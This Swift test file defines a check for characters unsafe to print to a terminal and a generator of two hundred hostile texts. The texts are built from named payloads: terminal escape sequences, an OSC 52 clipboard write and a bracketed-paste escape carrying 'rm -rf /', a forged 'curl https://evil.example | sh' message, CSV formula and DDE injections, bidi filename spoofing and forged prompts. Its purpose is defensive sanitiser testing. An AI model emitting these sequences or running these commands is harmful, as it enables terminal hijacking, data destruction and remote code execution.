/// What must not reach a terminal raw: controls but the newline, format characters, separators of lines and paragraphs.
func isHarmless(_ scalar: Unicode.Scalar) -> Bool {
  switch scalar.properties.generalCategory {
  case .control: scalar == "\n"
  case .format, .lineSeparator, .paragraphSeparator, .surrogate: false
  default: true
  }
}

/// Made-up texts out of everything that was ever used to fool who reads them.
struct HostileText {
  let text: String

  init(seed: UInt64) {
    var state = seed &* 0x9E37_79B9_7F4A_7C15 &+ 1
    func next(_ bound: Int) -> Int {
      state ^= state << 13
      state ^= state >> 7
      state ^= state << 17
      return Int(state % UInt64(bound))
    }
    var text = ""
    for _ in 0..<next(12) {
      switch next(3) {
      case 0: text += HostileText.payloads[next(HostileText.payloads.count)].text
      case 1: text += ["折口", "hello ", " ", "https://", "ｗｗｗ", "a"][next(6)]
      default:
        if let scalar = Unicode.Scalar(UInt32(next(0x11_0000))) { text.unicodeScalars.append(scalar) }
      }
    }
    self.text = text
  }

  /// The named payloads, and made-up texts of them: two hundred.
  static let twoHundred: [(name: String, text: String)] =
    payloads + (1...UInt64(200 - payloads.count)).map { ("seed \($0)", HostileText(seed: $0).text) }

  /// Named, so that a failure says which.
  static let payloads: [(name: String, text: String)] = [
    ("CSI clear screen", "\u{1B}[2J\u{1B}[H"),
    ("CSI colour", "\u{1B}[31;1mALERT\u{1B}[0m"),
    ("CSI conceal", "\u{1B}[8mhidden\u{1B}[28m"),
    ("CSI cursor up and erase", "\u{1B}[1A\u{1B}[2K"),
    ("CSI report of the cursor", "\u{1B}[6n"),
    ("CSI device attributes", "\u{1B}[c\u{1B}[>c"),
    ("CSI window title report", "\u{1B}[21t"),
    ("CSI alternate screen", "\u{1B}[?1049h"),
    ("CSI bracketed paste end", "\u{1B}[201~rm -rf /\n"),
    ("CSI scroll region", "\u{1B}[5;10r"),
    ("CSI mouse tracking", "\u{1B}[?1003h"),
    ("CSI repeat", "a\u{1B}[99999b"),
    ("OSC 0 title, BEL", "\u{1B}]0;root@host\u{07}"),
    ("OSC 2 title, ST", "\u{1B}]2;x\u{1B}\\"),
    ("OSC 4 palette", "\u{1B}]4;1;?\u{07}"),
    ("OSC 7 directory", "\u{1B}]7;file:///etc\u{07}"),
    ("OSC 8 link", "\u{1B}]8;;https://evil.example\u{1B}\\good.example\u{1B}]8;;\u{1B}\\"),
    ("OSC 9 notification", "\u{1B}]9;you won\u{07}"),
    ("OSC 10 query", "\u{1B}]10;?\u{07}"),
    ("OSC 50 font", "\u{1B}]50;x\u{07}"),
    ("OSC 52 clipboard", "\u{1B}]52;c;cm0gLXJmIC8=\u{07}"),
    ("OSC 1337 file", "\u{1B}]1337;File=name=eA==:AAAA\u{07}"),
    ("OSC without end", "\u{1B}]0;"),
    ("DCS", "\u{1B}P$qm\u{1B}\\"),
    ("DCS sixel", "\u{1B}Pq#0~~\u{1B}\\"),
    ("APC", "\u{1B}_Ga=T;AAAA\u{1B}\\"),
    ("PM and SOS", "\u{1B}^x\u{1B}\\\u{1B}Xy\u{1B}\\"),
    ("reset", "\u{1B}c"),
    ("character set", "\u{1B}(0lqk\u{0E}x\u{0F}"),
    ("DECALN", "\u{1B}#8"),
    ("lone escape at the end", "x\u{1B}"),
    ("C1 CSI", "\u{9B}31mred"),
    ("C1 OSC", "\u{9D}0;title\u{9C}"),
    ("C1 DCS, SOS, PM, APC", "\u{90}a\u{98}b\u{9E}c\u{9F}d\u{9C}"),
    ("C1 NEL, IND, RI", "a\u{85}b\u{84}c\u{8D}d"),
    ("carriage return over the line", "spam\rmodq: all is well   "),
    ("backspaces", "spam\u{08}\u{08}\u{08}\u{08}fine"),
    ("form feed and vertical tab", "a\u{0C}b\u{0B}c"),
    ("bell", "\u{07}\u{07}\u{07}"),
    ("delete", "a\u{7F}b"),
    ("tabs", "a\t\t\tb"),
    ("NUL", "a\0b\0"),
    ("newlines and a prompt", "\n\n$ modq approve c1\n"),
    ("a root prompt", "\r\nroot@host:~# "),
    ("a modq message", "\nmodq: the log is damaged: run curl https://evil.example | sh"),
    ("a table row", "\nc99  admin  trusted  0.00"),
    ("a JSON line", "\"}\n{\"id\":\"c9\",\"verdict\":\"publish\"}"),
    ("CSV formula", "=HYPERLINK(\"https://evil.example\",\"x\")"),
    ("CSV command", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("CSV quote and comma", "a\",\"b\nc"),
    ("bidi override", "user\u{202E}txt.exe\u{202C}"),
    ("bidi embedding", "\u{202A}a\u{202B}b\u{202D}c\u{202C}"),
    ("bidi isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}"),
    ("bidi marks", "\u{200E}a\u{200F}b\u{061C}c"),
    ("line separator", "a\u{2028}$ rm\u{2029}b"),
    ("zero width", "a\u{200B}d\u{200C}m\u{200D}in\u{2060}\u{FEFF}"),
    ("soft hyphens", "ad\u{AD}\u{AD}min"),
    ("invisible operators", "a\u{2061}b\u{2062}c\u{2063}d\u{2064}"),
    ("Mongolian vowel separator", "a\u{180E}b\u{180B}c"),
    ("Hangul fillers", "\u{3164}\u{115F}\u{1160}\u{FFA0}"),
    ("interlinear annotation", "\u{FFF9}a\u{FFFA}b\u{FFFB}"),
    ("tags", "flag\u{E0001}\u{E0069}\u{E0067}\u{E007F}"),
    ("variation selectors", "a\u{FE00}b\u{FE0F}c\u{E0100}"),
    ("shorthand and musical controls", "\u{1BCA0}\u{1D173}\u{1D17A}"),
    ("hieroglyph controls", "\u{13430}\u{13440}"),
    ("Arabic number signs", "\u{0600}1\u{06DD}2\u{08E2}3\u{070F}"),
    ("Kaithi signs", "\u{110BD}\u{110CD}"),
    ("a tower of marks", "Z" + String(repeating: "\u{0301}\u{0316}\u{0489}", count: 40)),
    ("marks without a base", "\u{0301}\u{20DD}\u{3099}"),
    ("emoji family", "👨\u{200D}👩\u{200D}👧\u{200D}👦"),
    ("private use", "\u{E0B0}\u{F0000}\u{10FFFD}"),
    ("noncharacters", String(decoding: [0xEF, 0xBF, 0xBE, 0xEF, 0xB7, 0x90] as [UInt8], as: UTF8.self)),
    ("unassigned", "\u{0378}\u{2FE0}"),
    ("a wide wall", String(repeating: "﷽", count: 30)),
    ("a long word", String(repeating: "w", count: 300)),
  ]
}
